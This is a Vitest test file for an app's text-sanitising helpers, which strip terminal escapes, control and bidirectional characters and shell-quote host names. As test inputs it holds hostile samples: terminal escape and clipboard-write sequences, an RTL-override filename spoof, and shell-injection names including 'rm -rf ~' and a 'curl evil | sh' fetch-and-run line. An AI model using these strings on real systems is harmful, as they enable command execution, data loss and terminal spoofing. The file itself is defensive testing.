import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { hasUnsafeChars, safeJson, shellWord, terminalField, terminalText } from '../../../app/safe-text.js';

const HOSTILE = 'a\u001b]0;title\u0007b\u001b]52;c;ZXZpbA==\u0007c\u001b[2J\u001b[2K\rfleetdeck: all good\u202Efdp.exe\u009b1m\u2066x\u2069\u200f\u061c\u007f';

describe('terminal text', () => {
  it('drops escapes, carriage returns, bells, C1 controls and direction characters, keeping what can be read', () => {
    expect(terminalText(HOSTILE)).toBe('a]0;titleb]52;c;ZXZpbA==c[2J[2Kfleetdeck: all goodfdp.exe1mx');
    expect(terminalText('line one\n\tline two\n')).toBe('line one\n\tline two\n');
    expect(terminalText('Zürich — 東京 🙂')).toBe('Zürich — 東京 🙂');
  });

  it('keeps a field on its own line and column: line breaks and tabs become a space', () => {
    expect(terminalField('disk failed\nfleetdeck: all good\tok\r\u2028x')).toBe('disk failed fleetdeck: all good ok x');
    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
    expect(terminalField(HOSTILE)).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/);
  });

  it('knows which text holds an unsafe character', () => {
    for (const bad of ['a\u202Eb', 'a\u200Fb', 'a\u2067b', 'a\nb', 'a\tb', 'a\u0085b', 'a\u007fb', 'a\u2028b']) expect(hasUnsafeChars(bad), JSON.stringify(bad)).toBe(true);
    for (const good of ['Lab A', 'Zürich-1', 'مركز البيانات', 'データセンター']) expect(hasUnsafeChars(good), good).toBe(false);
  });
});

describe('safeJson', () => {
  it('is the exact data, with no character a terminal would act on', () => {
    const value = { name: HOSTILE, nested: [{ message: 'x\u202Ey' }], n: 3 };
    const text = safeJson(value, 2);
    expect(JSON.parse(text)).toEqual(value);
    // eslint-disable-next-line no-control-regex -- control characters are what this looks for
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\u2028\u2029]/);
    expect(text).toContain('\\u202e');
    expect(safeJson({ a: 'plain' })).toBe(JSON.stringify({ a: 'plain' }));
  });
});

describe('shellWord', () => {
  /** Names a system may choose to make a pasted command run something of its own. */
  const HOSTILE_NAMES = ['$(touch /tmp/fleetdeck-pwned)', '`id`', "it's; rm -rf ~", 'a b\nfleetdeck ok', '"; curl evil | sh; "', "'$(id)'", 'x*', '~root', 'a&b|c>d'];

  it('leaves a name of plain characters as it is', () => {
    for (const name of ['tundra-01', 'prod_a.example', 'a:b@c%d+e=f/g,h']) expect(shellWord(name)).toBe(name);
  });

  it('quotes every other name so that a POSIX shell reads back exactly its text, running nothing', () => {
    for (const name of HOSTILE_NAMES) {
      const word = shellWord(name);
      expect(word, name).toMatch(/^'.*'$/s);
      const echoed = execFileSync('sh', ['-c', `printf %s ${word}`], { encoding: 'utf8' });
      expect(echoed, name).toBe(terminalField(name));
    }
  });

  it('drops control and bidi characters, and doubles quotes for PowerShell', () => {
    expect(shellWord('a\u001b[2Jb\u202ec')).toBe("'a[2Jbc'");
    expect(shellWord("it's", true)).toBe("'it''s'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
  });
});
